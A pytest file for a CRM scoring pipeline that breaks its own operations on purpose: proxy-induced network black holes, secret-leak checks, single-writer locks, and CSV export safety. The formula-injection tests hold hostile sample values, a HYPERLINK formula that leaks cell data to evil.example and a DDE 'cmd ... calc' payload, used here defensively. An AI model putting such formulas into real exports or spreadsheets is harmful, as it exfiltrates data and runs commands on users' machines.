"""The operations side under faults: what breaking crmlens on purpose found (issue 12).

Real PostgreSQL at 127.0.0.1:5432 (a database per test, dropped after), reached through a
TCP proxy the test starts on 127.0.0.1 that can cut or black-hole the traffic mid-COPY;
real Dagster runs in process; the command line as a subprocess where the path is a
user's (`crmlens run --days`, a second `crmlens run`, `crmlens status`).

Every wait here is bounded (the proxy gives up black-holing on its own, servers stop
themselves), and no test asserts a duration: short deadlines are set through the
settings so a hang turns into a failure in seconds.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import select
import shutil
import socket
import stat
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from datetime import date, datetime
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path

import duckdb
import polars as pl
import psycopg
import pytest

from crmlens.publish.contract import SCORE_TABLES, score_table
from crmlens.settings import get_settings
from crmlens.warehouse import connect, replace_table, session

ROOT = Path(__file__).resolve().parents[1]
CRMLENS = Path(sys.executable).parent / "crmlens"
LEADS = score_table("lead_scores")
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A2,"open")'


# ----------------------------------------------------------------------------- helpers


class Proxy:
    """A TCP proxy on 127.0.0.1 in front of PostgreSQL that can cut or black-hole traffic.

    ``arm("cut" | "blackhole", after=n)``: once a connection has carried ``n`` bytes from
    the client, ``cut`` closes both sides at once; ``blackhole`` stops forwarding in both
    directions and leaves the sockets open, and every new connection is accepted and
    never answered — a network that silently drops everything. ``before=b"COMMIT"``
    black-holes just before the client's data holding that text is forwarded. A black
    hole lasts ``blackhole_seconds`` at most; then everything is closed, so even a client
    without deadlines ends.
    """

    def __init__(self, upstream_port: int = 5432, blackhole_seconds: float = 10.0) -> None:
        self.upstream = ("127.0.0.1", upstream_port)
        self.blackhole_seconds = blackhole_seconds
        self.action: str | None = None
        self.after = 0
        self.before: bytes | None = None
        self.hole_until = 0.0
        self.connections = 0
        self._stop = threading.Event()
        self._sockets: list[socket.socket] = []
        self._lock = threading.Lock()
        self.server = socket.socket()
        self.server.bind(("127.0.0.1", 0))
        self.server.listen(16)
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        threading.Thread(target=self._accept, daemon=True).start()

    def arm(self, action: str | None, after: int = 0, before: bytes | None = None) -> None:
        self.action, self.after, self.before = action, after, before
        self.hole_until = 0.0

    def in_hole(self) -> bool:
        return time.monotonic() < self.hole_until

    def _accept(self) -> None:
        while not self._stop.is_set():
            try:
                client, _ = self.server.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            with self._lock:
                self.connections += 1
                self._sockets.append(client)
            if self.hole_until:  # inside the hole: never answered; after it: closed at once
                threading.Thread(target=self._hold, args=(client,), daemon=True).start()
                continue
            threading.Thread(target=self._pump, args=(client,), daemon=True).start()

    def _hold(self, client: socket.socket) -> None:
        while self.in_hole() and not self._stop.is_set():
            time.sleep(0.05)
        client.close()

    def _pump(self, client: socket.socket) -> None:
        upstream = socket.create_connection(self.upstream)
        with self._lock:
            self._sockets.append(upstream)
        sent = 0
        action, after, before = self.action, self.after, self.before
        try:
            while not self._stop.is_set():
                ready, _, _ = select.select([client, upstream], [], [], 0.1)
                for src in ready:
                    data = src.recv(65536)
                    if not data:
                        return
                    if src is client and action == "blackhole" and before and before in data:
                        self._black_hole(client)
                        return
                    (upstream if src is client else client).sendall(data)
                    sent += len(data) if src is client else 0
                if action == "cut" and sent >= after:
                    return
                if action == "blackhole" and not before and sent >= after:
                    self._black_hole(client)
                    return
        except OSError:
            return
        finally:
            for s in (client, upstream):
                s.close()

    def _black_hole(self, client: socket.socket) -> None:
        self.hole_until = time.monotonic() + self.blackhole_seconds
        self._hold(client)

    def stop(self) -> None:
        self._stop.set()
        self.server.close()
        with self._lock:
            for s in self._sockets:
                s.close()


@pytest.fixture
def proxy() -> Iterator[Proxy]:
    p = Proxy()
    yield p
    p.stop()


class _Hook(BaseHTTPRequestHandler):
    received: list = []
    release = threading.Event()
    stalled = threading.Event()

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        type(self).received.append(body)
        if self.path.endswith("/stall"):  # hold the sender until the test lets go (bounded)
            type(self).stalled.set()
            type(self).release.wait(120)
        self.send_response(200)
        self.end_headers()

    def log_message(self, *args) -> None:
        pass


@pytest.fixture
def webhook() -> Iterator[tuple[str, list, threading.Event, threading.Event]]:
    _Hook.received = []
    _Hook.release = threading.Event()
    _Hook.stalled = threading.Event()
    server = HTTPServer(("127.0.0.1", 0), _Hook)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    url = f"http://127.0.0.1:{server.server_port}/hooks/T0ken-webhook-secret"
    yield url, _Hook.received, _Hook.stalled, _Hook.release
    _Hook.release.set()
    server.shutdown()


def _lead_scores(n: int, bump: int = 0) -> pl.DataFrame:
    now = datetime(2026, 11, 1)
    return pl.DataFrame(
        {
            "lead_id": [f"L{i:06d}" for i in range(n)],
            "score": [(i * 7 + bump) % 100 for i in range(n)],
            "probability": [((i * 7 + bump) % 100) / 100 for i in range(n)],
            "grade": ["A" if (i * 7 + bump) % 100 > 70 else "C" for i in range(n)],
            "band": ["hot" if (i * 7 + bump) % 100 > 70 else "cold" for i in range(n)],
            "reasons": [
                json.dumps([{"group": "pricing_view", "text": f"Viewed pricing {i % 9} times"}])
                for i in range(n)
            ],
            "next_action": ["Call today, then send the case study they asked for"] * n,
            "model_name": ["crmlens-lead-scoring"] * n,
            "model_version": ["3"] * n,
            "scoring_path": ["model"] * n,
            "as_of": [now] * n,
            "scored_at": [now] * n,
            "valid_until": [now] * n,
            "run_id": ["r"] * n,
        }
    )


def _pg_scores(dsn: str) -> dict[str, int]:
    with psycopg.connect(dsn) as pg:
        return dict(pg.execute("select lead_id, score from crmlens.lead_scores").fetchall())


def _crmlens_sessions(dsn: str) -> int:
    db = psycopg.conninfo.conninfo_to_dict(dsn)["dbname"]
    with psycopg.connect(dsn, autocommit=True) as pg:
        return pg.execute(
            "select count(*) from pg_stat_activity where datname = %s "
            "and application_name = 'crmlens' and pid <> pg_backend_pid()",
            [db],
        ).fetchone()[0]


def _wait_until(condition, seconds: float = 60.0) -> bool:
    """Poll a condition (bounded); the caller asserts the outcome, never the time."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if condition():
            return True
        time.sleep(0.2)
    return condition()


def _publish_job(home: Path):
    """The lead scores' publish step as a job of its own, with the jobs' failure hook."""
    from dagster import AssetKey, AssetSelection, Definitions, define_asset_job

    from pipelines.monitoring.alerts import alert_on_failure
    from pipelines.publish.assets import build_publish_assets
    from pipelines.resources import CrmlensResource

    key = AssetKey(["publish", "lead_scores"])
    assets = [a for a in build_publish_assets() if key in a.keys]
    job = define_asset_job(
        "publish_leads", selection=AssetSelection.assets(key), hooks={alert_on_failure}
    )
    resource = CrmlensResource(home=str(home))
    return Definitions(assets=assets, jobs=[job], resources={"crmlens": resource}).resolve_job_def(
        "publish_leads"
    )


def _short_deadlines(monkeypatch: pytest.MonkeyPatch, attempts: int = 2) -> None:
    for name, value in {
        "POSTGRES_CONNECT_TIMEOUT_SECONDS": "2",
        "POSTGRES_STATEMENT_TIMEOUT_SECONDS": "1",
        "POSTGRES_IDLE_IN_TRANSACTION_TIMEOUT_SECONDS": "1",
        "POSTGRES_KEEPALIVE_IDLE_SECONDS": "1",
        "POSTGRES_KEEPALIVE_INTERVAL_SECONDS": "1",
        "POSTGRES_KEEPALIVE_COUNT": "1",
        "PUBLISH_ATTEMPTS": str(attempts),
        "PUBLISH_BACKOFF_SECONDS": "0.1",
    }.items():
        monkeypatch.setenv(f"CRMLENS_{name}", value)


def _cli(*args: str, env: dict[str, str], **kw) -> subprocess.CompletedProcess:
    return subprocess.run(
        [str(CRMLENS), *args], env=env, capture_output=True, text=True, check=False, **kw
    )


def _cli_env(home: Path, spec: Path, **extra: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("CRMLENS_", "DAGSTER_"))}
    return env | {"CRMLENS_HOME": str(home), "CRMLENS_SOURCE_SPEC": str(spec)} | extra


# ------------------------------------------------ 4: a black-holed publish, one retry policy


BLACK_HOLES = {
    # Silence 100 kB into a 3 MB COPY: the client's kernel gives up (tcp_user_timeout).
    "mid-copy": (20_000, {"after": 100_000}, False),
    # Everything sent, the COMMIT never arrives: the client's wait deadline gives up, and
    # PostgreSQL ends the idle transaction itself (idle_in_transaction_session_timeout).
    "before-commit": (300, {"before": b"COMMIT"}, False),
    # A full resync (the remembered state is gone) black-holed mid-COPY: the CRM's readers
    # must not wait on it (no TRUNCATE's exclusive lock held by a stuck session).
    "full-resync-mid-copy": (20_000, {"after": 100_000}, True),
}


@pytest.mark.postgres
@pytest.mark.parametrize("case", list(BLACK_HOLES))
def test_a_black_holed_publish_fails_within_its_deadline_alerts_and_keeps_the_crm_scores(
    tmp_path: Path,
    pg_database: str,
    proxy: Proxy,
    webhook,
    monkeypatch: pytest.MonkeyPatch,
    case: str,
):
    """A black-holed network fails each attempt within the session's deadline; the client's
    retries are the only ones; the step fails and raises an alert; the CRM's readers keep
    reading the previous scores meanwhile; the next run converges."""
    from dagster import DagsterInstance

    rows, trigger, full = BLACK_HOLES[case]
    url, received, _, _ = webhook
    home = tmp_path / "home"
    via_proxy = pg_database.replace("port=5432", f"port={proxy.port}")
    monkeypatch.setenv("CRMLENS_PUBLISH_POSTGRES_DSN", via_proxy)
    monkeypatch.setenv("CRMLENS_ALERT_WEBHOOK_URL", url)
    _short_deadlines(monkeypatch, attempts=2)
    warehouse = get_settings(home=home).warehouse_path
    job = _publish_job(home)

    with session(warehouse) as con:
        replace_table(con, "ml", "lead_scores", _lead_scores(rows))
    assert job.execute_in_process(instance=DagsterInstance.ephemeral()).success
    before = _pg_scores(pg_database)
    assert len(before) == rows

    # Every score changes, so the COPY carries every row.
    with session(warehouse) as con:
        replace_table(con, "ml", "lead_scores", _lead_scores(rows, bump=1))
        if full:
            con.execute("drop table publish.pg_state__lead_scores")
    proxy.arm("blackhole", **trigger)
    failed = job.execute_in_process(instance=DagsterInstance.ephemeral(), raise_on_error=False)

    assert not failed.success
    events = [e.event_type_value for e in failed.all_events]
    assert "STEP_UP_FOR_RETRY" not in events  # one retry policy: the client's, not Dagster's too
    with session(warehouse) as con:
        attempts, error = con.execute(
            "select attempts, error from ops.sync_log where failed order by synced_at desc limit 1"
        ).fetchall()[0]
        alerts = con.execute(
            "select entity_id from ops.alerts where kind = 'pipeline_failure'"
        ).fetchall()
    assert attempts == 2  # the settings' attempts, no more
    assert "failed after 2 attempt(s)" in error and "previous scores are still in place" in error
    step = [e.step_key for e in failed.all_events if e.event_type_value == "STEP_FAILURE"]
    assert [entity for (entity,) in alerts] == step
    sent = [a for body in received for a in body["alerts"] if a["kind"] == "pipeline_failure"]
    assert [a["entity_id"] for a in sent] == step

    # The CRM reads the previous scores, not blocked by the abandoned session (the reader
    # gives up after 5 s rather than wait: waiting would be the failure).
    with psycopg.connect(pg_database) as pg:
        pg.execute("set statement_timeout = '5s'")
        assert dict(pg.execute("select lead_id, score from crmlens.lead_scores").fetchall()) == (
            before
        )
    if case == "before-commit":  # PostgreSQL ended the idle transaction on its own
        assert _wait_until(lambda: _crmlens_sessions(pg_database) == 0, seconds=20)
        assert proxy.in_hole()
    assert _wait_until(lambda: _crmlens_sessions(pg_database) == 0)

    # The network is back: the next run sends the difference again and converges.
    proxy.arm(None)
    assert job.execute_in_process(instance=DagsterInstance.ephemeral()).success
    expected = _lead_scores(rows, bump=1)
    assert _pg_scores(pg_database) == dict(zip(expected["lead_id"], expected["score"], strict=True))


@pytest.mark.postgres
def test_a_cut_mid_copy_is_reported_whole_and_the_next_attempt_completes(
    tmp_path: Path, pg_database: str, proxy: Proxy, monkeypatch: pytest.MonkeyPatch
):
    from dagster import DagsterInstance

    home = tmp_path / "home"
    monkeypatch.setenv(
        "CRMLENS_PUBLISH_POSTGRES_DSN", pg_database.replace("port=5432", f"port={proxy.port}")
    )
    _short_deadlines(monkeypatch, attempts=2)
    job = _publish_job(home)
    with session(get_settings(home=home).warehouse_path) as con:
        replace_table(con, "ml", "lead_scores", _lead_scores(20_000))

    proxy.arm("cut", after=100_000)  # every connection is cut mid-COPY
    failed = job.execute_in_process(instance=DagsterInstance.ephemeral(), raise_on_error=False)
    assert not failed.success
    with session(get_settings(home=home).warehouse_path) as con:
        (error,) = con.execute("select error from ops.sync_log where failed").fetchall()[-1]
    # PostgreSQL's message whole, on one line, not its last line ("before or while
    # processing the request.").
    assert "server closed the connection unexpectedly" in error, error
    assert "\n" not in error and "failed after 2 attempt(s)" in error
    assert _wait_until(lambda: _crmlens_sessions(pg_database) == 0)
    with psycopg.connect(pg_database) as pg:  # the cut transactions left nothing behind
        assert pg.execute("select to_regclass('crmlens.lead_scores')").fetchone()[0] is None

    proxy.arm(None)
    assert job.execute_in_process(instance=DagsterInstance.ephemeral()).success
    assert len(_pg_scores(pg_database)) == 20_000


# ------------------------------------------------------------ 15: the published columns


def _documented_columns() -> dict[str, list[str]]:
    """docs/score-contract.md, "Columns, table by table": table -> its columns, in order."""
    text = (ROOT / "docs" / "score-contract.md").read_text()
    section = text.split("## Columns, table by table", 1)[1].split("\n## ", 1)[0]
    out = {}
    for line in section.splitlines():
        found = re.match(r"- `(\w+)`: (.+)$", line.strip())
        if found:
            out[found.group(1)] = re.findall(r"`(\w+)`", found.group(2))
    return out


def _a_series_forecast(con: duckdb.DuckDBPyConnection) -> None:
    from models.forecasting import spec_series

    row = dict.fromkeys(spec_series.SCHEMA)
    row |= {"series": "sales", "segment": "all", "period": date(2026, 11, 1), "horizon": 1}
    spec_series.write(con, pl.DataFrame([row], schema=spec_series.SCHEMA), ["sales"])


@pytest.mark.postgres
def test_every_published_table_has_exactly_the_documented_columns(
    tiny_home: Path, tmp_path: Path, pg_database: str
):
    import pyarrow.parquet as pq

    from crmlens.publish.run import publish
    from crmlens.warehouse import table_columns

    documented = _documented_columns()
    assert set(documented) == set(SCORE_TABLES)
    home = tmp_path / "home"
    home.mkdir()
    shutil.copy(tiny_home / "warehouse.duckdb", home / "warehouse.duckdb")
    with session(home / "warehouse.duckdb") as con:  # a history an earlier release wrote
        con.execute(
            "alter table publish.revenue_forecast_history add column if not exists "
            "backtest_mase_1 double"
        )
        _a_series_forecast(con)  # the synthetic CRM's spec defines no `series:`
    settings = get_settings(home=home, publish_postgres_dsn=pg_database, export_csv=True)
    for table in SCORE_TABLES.values():
        assert publish(settings, table, "contract-check").rows > 0, table.name

    with session(settings.warehouse_path, read_only=True) as con:
        for name, columns in documented.items():
            assert list(table_columns(con, "publish", name)) == columns, name
            assert list(table_columns(con, "publish", f"{name}_history")) == columns, name
    for name, columns in documented.items():
        assert pq.read_schema(settings.export_dir / f"{name}.parquet").names == columns, name
        with (settings.export_dir / f"{name}.csv").open() as f:
            assert next(csv.reader(f)) == columns, name
    with psycopg.connect(pg_database) as pg:
        for name, columns in documented.items():
            found = pg.execute(
                "select column_name from information_schema.columns where table_schema = "
                "'crmlens' and table_name = %s order by ordinal_position",
                [name],
            ).fetchall()
            assert [c for (c,) in found] == columns, name


# -------------------------------------------------- 5: secrets, and who can read the files


SECRETS = ("Pw-source-secret", "Pw-publish-secret", "T0ken-webhook-secret")


@pytest.mark.postgres
def test_secrets_never_reach_dagster_run_storage_logs_or_mlflow_and_files_are_private(
    tiny_crm: Path, tmp_path: Path, pg_database: str, webhook, monkeypatch: pytest.MonkeyPatch
):
    from dagster import DagsterInstance
    from dagster._serdes import serialize_value

    from pipelines.run import run_job

    url, received, _, _ = webhook
    assert SECRETS[2] in url
    home, dagster = tmp_path / "home", tmp_path / "dagster"
    monkeypatch.setenv("DAGSTER_HOME", str(dagster))
    settings = get_settings(
        home=home,
        source_spec=tiny_crm / "source_spec.yml",
        source_postgres_dsn=f"host=127.0.0.1 user=crm password={SECRETS[0]} dbname=crm",
        publish_postgres_dsn=f"{pg_database} password={SECRETS[1]}",
        alert_webhook_url=url,
    )
    runs = {}
    for job in ("daily", "train"):
        log = home / "logs" / f"{job}.log"
        result = run_job(settings, job, raise_on_error=False, log_file=log)
        assert result.success, log.read_text()[-3000:]
        runs[job] = result.run_id
    # dbt wrote the daily run's artifacts into a folder of that run, not a shared one.
    dbt_target = home / "dbt_target"
    assert (dbt_target / "runs" / runs["daily"]).is_dir()
    assert list((dbt_target / "runs" / runs["daily"]).rglob("run_results.json"))
    assert not (dbt_target / "run_results.json").exists()
    instance = DagsterInstance.get()
    stored = []
    for record in instance.get_run_records():
        run = record.dagster_run
        stored.append(serialize_value(run))
        stored.append(serialize_value(instance.get_job_snapshot(run.job_snapshot_id)))
        stored.append(serialize_value(instance.get_execution_plan_snapshot(
            run.execution_plan_snapshot_id
        )))  # fmt: skip
        stored += [serialize_value(e) for e in instance.all_logs(run.run_id)]
    assert len(stored) > 10
    files = [p for root in (home, dagster) for p in root.rglob("*") if p.is_file()]
    texts = [p.read_bytes().decode("utf-8", "replace") for p in files]
    for secret in SECRETS:
        assert not any(secret in text for text in stored), f"{secret} in Dagster's run storage"
        leaked = [str(p) for p, text in zip(files, texts, strict=True) if secret in text]
        assert not leaked, f"{secret} written to {leaked}"  # logs, MLflow store, exports, ...

    # The secrets were used all the same: the webhook got the alerts, PostgreSQL the scores.
    assert received
    with psycopg.connect(pg_database) as pg:
        assert pg.execute("select count(*) from crmlens.lead_scores").fetchone()[0] > 0

    # Nothing crmlens wrote (warehouse, snapshot, exports, MLflow, Dagster, logs) is
    # readable by other users of the machine.
    everything = [home, dagster, *home.rglob("*"), *dagster.rglob("*")]
    public = [
        f"{p} {stat.filemode(p.stat().st_mode)}" for p in everything if p.stat().st_mode & 0o007
    ]
    assert not public, public


# ------------------------------------------------------------------ 7: CSV formula injection


def test_csv_export_neutralises_formulas_keeps_numbers_and_survives_a_quote_in_its_path(
    tmp_path: Path,
):
    from crmlens.publish.run import publish

    frame = _lead_scores(4).with_columns(
        pl.Series("next_action", [FORMULA, "+1 555 0100", "@SUM(A1:A9)", "\tcmd|' /C calc'!A0"]),
        pl.Series("model_version", ["-5", "3", "+2.5e3", "\rreturn"]),
        pl.Series("score", [-3, 10, 20, 30]),
    )
    settings = get_settings(home=tmp_path / "home", export_dir=tmp_path / "the CRM's exports",
                            export_csv=True)  # fmt: skip
    with session(settings.warehouse_path) as con:
        replace_table(con, "ml", "lead_scores", frame)
    assert publish(settings, LEADS, "r1").rows == 4

    rows = list(csv.DictReader((settings.export_dir / "lead_scores.csv").open(newline="")))
    assert [r["next_action"] for r in rows] == [
        "'" + FORMULA,
        "'+1 555 0100",
        "'@SUM(A1:A9)",
        "'\tcmd|' /C calc'!A0",
    ]
    assert [r["model_version"] for r in rows] == ["-5", "3", "+2.5e3", "'\rreturn"]
    assert [r["score"] for r in rows] == ["-3", "10", "20", "30"]  # numbers stay numbers
    parquet = pl.read_parquet(settings.export_dir / "lead_scores.parquet")
    assert parquet["next_action"][0] == FORMULA  # the typed export keeps the value as it is


def test_a_dashboard_csv_download_neutralises_a_hostile_company_name(
    tiny_home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    from streamlit.runtime.media_file_manager import MediaFileManager
    from streamlit.testing.v1 import AppTest

    from dashboards.catalog import APP

    home = tmp_path / "home"
    (home / "serving").mkdir(parents=True)
    snapshot = home / "serving" / "current.duckdb"
    shutil.copy(tiny_home / "serving" / "current.duckdb", snapshot)
    con = duckdb.connect(str(snapshot))
    lead = con.execute(
        "select s.lead_id from publish.lead_scores s join marts.fct_leads using (lead_id) "
        "order by s.score desc, s.lead_id limit 1"
    ).fetchall()[0][0]
    con.execute("update marts.fct_leads set company = ? where lead_id = ?", [FORMULA, lead])
    con.close()
    monkeypatch.setenv("CRMLENS_HOME", str(home))
    monkeypatch.delenv("CRMLENS_SERVING_PATH", raising=False)

    downloads: dict[str, object] = {}
    register = MediaFileManager.add_deferred

    def capture(self, data_callable, mimetype, coordinates, file_name=None, **kw):
        downloads[file_name] = data_callable
        return register(self, data_callable, mimetype, coordinates, file_name, **kw)

    monkeypatch.setattr(MediaFileManager, "add_deferred", capture)
    at = AppTest.from_file(str(APP), default_timeout=120)
    at.switch_page("views/leads.py")
    at.run()
    assert not at.exception, [e.value for e in at.exception]

    data = downloads["crmlens_scored_leads.csv"]()  # what the Download CSV button sends
    rows = list(csv.DictReader(io.StringIO(data.decode() if isinstance(data, bytes) else data)))
    hostile = [r for r in rows if r["lead_id"] == lead]
    assert hostile and hostile[0]["company"] == "'" + FORMULA
    assert all(not r["company"].startswith(("=", "+", "-", "@")) for r in rows)
    score = [k for k in rows[0] if k.lower() == "score"]
    assert score and all(re.fullmatch(r"-?\d+(\.\d+)?", r[score[0]]) for r in rows)


# ------------------------------------------------- 11: crmlens run --days, as a user runs it


def test_run_days_loads_exactly_those_days(tiny_crm: Path, tmp_path: Path):
    home = tmp_path / "home"
    env = _cli_env(home, tiny_crm / "source_spec.yml")
    result = _cli("run", "--job", "ingest", "--days", "2026-10-01:2026-10-03", env=env)
    assert result.returncode == 0, result.stdout[-2000:] + result.stderr[-2000:]
    with session(home / "warehouse.duckdb", read_only=True) as con:
        days = con.execute(
            "select distinct cast(occurred_at as date) from raw.events order by 1"
        ).fetchall()
    assert [d for (d,) in days] == [date(2026, 10, 1), date(2026, 10, 2), date(2026, 10, 3)]


# ------------------------------------------------------------- 13: one writer, in one line


def test_a_second_run_is_refused_in_one_line_and_status_answers_during_a_run(
    tiny_crm: Path, tmp_path: Path, webhook
):
    url, _, stalled, release = webhook
    home = tmp_path / "home"
    env = _cli_env(home, tiny_crm / "source_spec.yml")
    loaded = _cli("ingest", env=env)
    assert loaded.returncode == 0, loaded.stderr[-2000:]

    # The run that holds the warehouse: training fails (no marts built yet) and its failure
    # alert waits on the webhook until the test lets go.
    first = subprocess.Popen(
        [str(CRMLENS), "run", "--job", "train"],
        env=env | {"CRMLENS_ALERT_WEBHOOK_URL": f"{url}/stall"},
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        assert stalled.wait(180), "the first run never reached its failure alert"
        second = _cli("run", "--job", "ingest", env=env, timeout=300)
        status = _cli("status", env=env, timeout=300)
        still_running = first.poll() is None
    finally:
        release.set()
        first.communicate(timeout=300)
    assert still_running  # both answered while the first run held the warehouse

    assert second.returncode == 1
    assert "Traceback" not in second.stdout + second.stderr
    (line,) = second.stderr.strip().splitlines()
    assert "is in use by crmlens run --job train" in line and f"pid {first.pid}" in line, line
    assert re.search(r"since \d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC", line), line

    assert status.returncode == 0, status.stderr
    assert "invalid_email" in status.stdout  # the table, read from the snapshot
    assert "in progress: crmlens run --job train" in status.stdout
    # The refused run wrote nothing, not even over the first run's log: one log per run.
    logs = sorted(p.name for p in (home / "logs").glob("*.log"))
    assert len(logs) == 1 and re.fullmatch(r"train-[0-9a-f]{8}\.log", logs[0]), logs


def test_a_writer_outside_crmlens_is_named_in_one_line(tiny_crm: Path, tmp_path: Path):
    """A notebook (any process) has the warehouse open for writing: `crmlens ingest` says
    so in one line with that process's pid, instead of DuckDB's traceback."""
    home = tmp_path / "home"
    warehouse = home / "warehouse.duckdb"
    home.mkdir()
    holder = subprocess.Popen(
        [sys.executable, "-c", "import duckdb, sys; c = duckdb.connect(sys.argv[1]); "
         "print('open', flush=True); sys.stdin.read()", str(warehouse)],
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True,
    )  # fmt: skip
    try:
        assert holder.stdout.readline().strip() == "open"
        result = _cli(
            "ingest", "--table", "teams", env=_cli_env(home, tiny_crm / "source_spec.yml")
        )
    finally:
        holder.communicate("")
    assert result.returncode == 1
    assert "Traceback" not in result.stdout + result.stderr
    (line,) = result.stderr.strip().splitlines()
    assert f"is in use by another process (pid {holder.pid}" in line, line


def test_a_killed_snapshot_refresh_leaves_nothing_behind(tmp_path: Path):
    from crmlens.serving import refresh_snapshot

    settings = get_settings(home=tmp_path / "home")
    with session(settings.warehouse_path) as con:
        con.execute("create table t as select 1 as x")
    dead = subprocess.Popen(["true"])
    dead.wait()
    alive = subprocess.Popen(["sleep", "60"])
    try:
        folder = Path(settings.serving_path).parent
        folder.mkdir(parents=True)
        orphan = folder / f".current.duckdb.{dead.pid}.123.tmp"
        orphan_meta = folder / f".current.duckdb.{dead.pid}.123.json.tmp"
        in_flight = folder / f".current.duckdb.{alive.pid}.456.tmp"
        for path in (orphan, orphan_meta, in_flight):
            path.write_bytes(b"half a copy")
        refresh_snapshot(settings, "r1")
        assert not orphan.exists() and not orphan_meta.exists()
        assert in_flight.exists()  # a live refresh's copy is its own
        with connect(settings.serving_path, read_only=True) as con:
            assert con.execute("select x from t").fetchall() == [(1,)]
    finally:
        alive.kill()
        alive.wait()


# ------------------------------------------------------------ 6: dashboards on this machine


def test_the_dashboards_listen_on_this_machine_only(tiny_home: Path, tmp_path: Path):
    import urllib.request

    import psutil

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    env = _cli_env(tiny_home, tiny_home / "none.yml")
    log = (tmp_path / "dashboard.log").open("w")
    proc = subprocess.Popen(
        [str(CRMLENS), "dashboard", "--port", str(port)],
        env=env,
        stdout=log,
        stderr=subprocess.STDOUT,
        start_new_session=True,
    )
    try:

        def healthy() -> bool:
            try:
                with urllib.request.urlopen(f"http://127.0.0.1:{port}/_stcore/health", timeout=2):
                    return True
            except OSError:
                return False

        assert _wait_until(healthy, seconds=120), (tmp_path / "dashboard.log").read_text()
        processes = [psutil.Process(proc.pid), *psutil.Process(proc.pid).children(recursive=True)]
        listening = [
            c.laddr
            for p in processes
            for c in p.net_connections(kind="inet")
            if c.status == psutil.CONN_LISTEN
        ]
        assert listening and {a.ip for a in listening} == {"127.0.0.1"}, listening
        assert {a.port for a in listening} == {port}
    finally:
        os.killpg(proc.pid, 15)
        proc.wait(30)
        log.close()


@pytest.mark.postgres
def test_a_black_holed_source_read_fails_within_its_deadline_and_loads_nothing(
    tiny_crm: Path, pg_database: str, proxy: Proxy, warehouse, monkeypatch: pytest.MonkeyPatch
):
    """The PostgreSQL source: the network goes silent as the COPY out is sent; the read
    fails within the session's deadline (a ConnectionError, which the ingest step's retry
    policy retries), nothing is loaded, and the watermark does not move."""
    from crmlens.ingest import ingest_table
    from crmlens.sources import shipped_spec
    from crmlens.sources.postgres import load_operational_crm, watermark
    from crmlens.sources.spec import load_spec
    from tests.conftest import NOW

    counts = load_operational_crm(tiny_crm, pg_database)
    monkeypatch.setenv(
        "CRMLENS_SOURCE_POSTGRES_DSN", pg_database.replace("port=5432", f"port={proxy.port}")
    )
    _short_deadlines(monkeypatch)
    spec = load_spec(shipped_spec("operational_crm"))

    proxy.arm("blackhole", before=b"copy (")
    with pytest.raises(ConnectionError) as excinfo:
        ingest_table(warehouse, spec, "leads", now=NOW)
    assert "no answer from the server within" in str(excinfo.value), excinfo.value
    assert "leads" in str(excinfo.value) and "password" not in str(excinfo.value)
    assert watermark(warehouse, "operational_crm", "leads") is None
    loaded = warehouse.execute(
        "select count(*) from duckdb_tables() where schema_name = 'raw' and table_name = 'leads'"
    ).fetchall()[0][0]
    assert loaded == 0 or warehouse.execute("select count(*) from raw.leads").fetchall() == [(0,)]

    proxy.arm(None)
    result = ingest_table(warehouse, spec, "leads", now=NOW)
    assert result.rows_in == counts["leads"] and result.reconciles
